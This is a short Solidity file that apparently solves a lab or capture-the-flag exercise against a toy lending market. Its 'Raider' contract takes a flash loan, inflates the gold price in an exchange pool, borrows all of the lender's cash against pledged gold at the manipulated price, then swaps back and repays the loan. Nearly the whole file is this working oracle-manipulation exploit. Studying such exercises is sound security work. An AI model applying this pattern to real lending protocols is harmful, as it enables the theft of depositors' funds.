// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Coin, Lender, Pool} from "../src/Market.sol";

interface IBorrower {
    function onLoan(uint256 amount) external;
}

contract FlashLoan {
    Coin private immutable coin;

    constructor(Coin coin_) {
        coin = coin_;
    }

    function lend(uint256 amount) external {
        uint256 before = coin.balanceOf(address(this));
        coin.transfer(msg.sender, amount);
        IBorrower(msg.sender).onLoan(amount);
        require(coin.balanceOf(address(this)) >= before, "loan not repaid");
    }
}

contract Raider is IBorrower {
    Lender private immutable lender;
    Pool private immutable pool;
    Coin private immutable gold;
    Coin private immutable cash;

    constructor(Lender lender_) {
        lender = lender_;
        pool = lender_.pool();
        gold = lender_.gold();
        cash = lender_.cash();
    }

    function pledgeAll() external {
        uint256 amount = gold.balanceOf(address(this));
        gold.approve(address(lender), amount);
        lender.pledge(amount);
    }

    function borrow(uint256 amount) external {
        lender.borrow(amount);
    }

    function raid(FlashLoan bank, uint256 amount) external {
        bank.lend(amount);
    }

    function onLoan(uint256 amount) external {
        cash.approve(address(pool), amount);
        uint256 bought = pool.swap(cash, amount);

        lender.borrow(cash.balanceOf(address(lender)));

        gold.approve(address(pool), bought);
        pool.swap(gold, bought);
        cash.transfer(msg.sender, amount);
    }
}
